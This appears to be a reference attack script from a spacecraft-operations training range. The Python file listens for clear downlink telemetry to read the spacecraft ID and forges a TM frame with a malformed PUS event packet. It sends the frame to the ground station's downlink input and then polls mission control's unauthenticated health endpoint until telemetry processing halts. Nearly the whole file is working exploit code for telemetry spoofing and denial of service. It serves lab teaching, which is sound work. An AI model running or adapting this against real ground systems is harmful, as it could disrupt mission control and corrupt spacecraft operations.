"""Reference attack for tm-ingest: run on the attacker workstation, as the student.

1. Listen on the downlink air (UDP 5103 on the rf segment) for a housekeeping report and
   read the spacecraft id (SCID) from its frame header, and the operations message from
   the report: the downlink is in the clear.
2. Build a TM transfer frame of that spacecraft (virtual channel 0, a good FECF) whose
   data field is one Space Packet that is well framed but malformed inside: a PUS 5,1
   event report with one octet of data, where the event id needs two.
3. Transmit it to the rf-link's downlink input (UDP 5102): the ground station takes it
   for the spacecraft's and hands the packet to mission control.
4. Watch mission control's health report (GET /api/health, no login) until its telemetry
   processing says it is halted.

Exit status 0 when the processing halted, 2 when it did not (for instance once bad
packets are dropped and counted: then the dropped count grows instead).
"""

from __future__ import annotations

import json
import socket
import sys
import time
import urllib.request

from labctl.errors import ProtocolError
from labctl.protocols.pus import PusTm
from labctl.protocols.stream import packets_in
from labctl.protocols.tm_frame import TmFrame
from labctl.range import wiring
from labctl.range.hosts.catalog import Housekeeping

HEALTH = f"{wiring.MISSION_CONTROL_URL}/api/health"
DOWNLINK_IN = (wiring.RF_LINK, wiring.DOWNLINK_IN)
PLATFORM_APID = 0x064
LISTEN_S = 30.0
WATCH_S = 20.0
TRIES = 3


def housekeeping_in(datagram: bytes) -> tuple[int, Housekeeping] | None:
    """(SCID, report) of the first clear housekeeping report in one TM frame, if any."""
    try:
        frame = TmFrame.decode(datagram)
        packets, _ = packets_in(frame.data)
    except ProtocolError:
        return None
    for packet in packets:
        try:
            report = PusTm.decode(packet.encode())
            if (report.service, report.subtype) == (3, 25):
                return frame.scid, Housekeeping.decode(report.source_data)
        except ProtocolError:
            continue
    return None


def spacecraft_id() -> int | None:
    """The SCID of the first clear housekeeping report heard on the downlink air."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", wiring.DOWNLINK_AIR))
        deadline = time.monotonic() + LISTEN_S
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                datagram = sock.recv(4096)
            except TimeoutError:
                return None
            found = housekeeping_in(datagram)
            if found is not None:
                scid, report = found
                print(f"housekeeping in the clear: ops message {report.ops_message!r}")
                return scid
    return None


def malformed_frame(scid: int, count: int) -> bytes:
    """A good frame around a bad packet: an event report without its event id."""
    packet = PusTm(PLATFORM_APID, 5, 1, b"\x01", seq_count=count).encode()
    return TmFrame(scid, 0, packet, fhp=0).encode()


def ingest() -> dict[str, object]:
    with urllib.request.urlopen(HEALTH, timeout=10) as answer:
        return dict(json.loads(answer.read())["ingest"])


def main() -> int:
    scid = spacecraft_id()
    if scid is None:
        print("no telemetry frame heard on the downlink air")
        return 2
    print(f"spacecraft id {scid} (from a clear TM frame on UDP {wiring.DOWNLINK_AIR})")
    before = ingest()
    print(f"mission control's telemetry processing before: {json.dumps(before)}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for attempt in range(TRIES):
            sock.sendto(malformed_frame(scid, 100 + attempt), DOWNLINK_IN)
            print(f"sent a TM frame with an event report of 1 octet to {DOWNLINK_IN}")
            deadline = time.monotonic() + WATCH_S / TRIES
            while time.monotonic() < deadline:
                now = ingest()
                if now.get("halted"):
                    print(
                        f"mission control's telemetry processing HALTED: {now.get('halted_reason')}"
                    )
                    return 0
                time.sleep(1.0)
    now = ingest()
    print(f"the processing did not halt ({now.get('rejected_packets')} bad packets dropped)")
    return 2


if __name__ == "__main__":
    sys.exit(main())
